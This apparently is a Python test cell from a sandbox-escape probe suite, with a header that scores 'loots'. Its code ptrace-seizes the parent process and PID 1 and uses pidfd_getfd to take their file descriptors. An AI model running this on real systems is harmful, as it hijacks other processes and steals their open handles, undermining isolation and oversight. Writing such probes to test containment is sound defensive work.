"""Takes hold of other processes as a debugger would: ptrace, reading memory across, taking their descriptors.

Tries its parent and process 1. Seizing does not stop the process that is seized, and ends with this one.
"""

# zoo: {"verdict": ["ok"], "points": {"q1": 0, "q2": 0, "q3": 0}, "loots": ["success"]}
# %% q1
total = None
import ctypes
import signal

libc = ctypes.CDLL(None, use_errno=True)
SEIZE = 0x4206
targets = {os.getppid(), 1} if len([n for n in os.listdir("/proc") if n.isdigit()]) < 20 else {os.getppid()}
for pid in sorted(targets - {0}):
    if libc.ptrace(SEIZE, pid, None, None) == 0:
        loot.append(f"{WON}process {pid} is seized")
    else:
        print("ptrace", pid, os.strerror(ctypes.get_errno()))
    try:
        handle = os.pidfd_open(pid)
        for number in range(3):
            taken = libc.syscall(438, handle, number, 0)
            print("pidfd_getfd", pid, number, taken if taken >= 0 else os.strerror(ctypes.get_errno()))
            if taken >= 0:
                loot.append(f"{WON}descriptor {number} of process {pid}")
    except OSError as error:
        print("pidfd_open", pid, error.strerror)
    try:
        os.kill(pid, 0)
        print("may signal", pid)
    except OSError as error:
        print("kill", pid, error.strerror)
print("\n".join(loot))
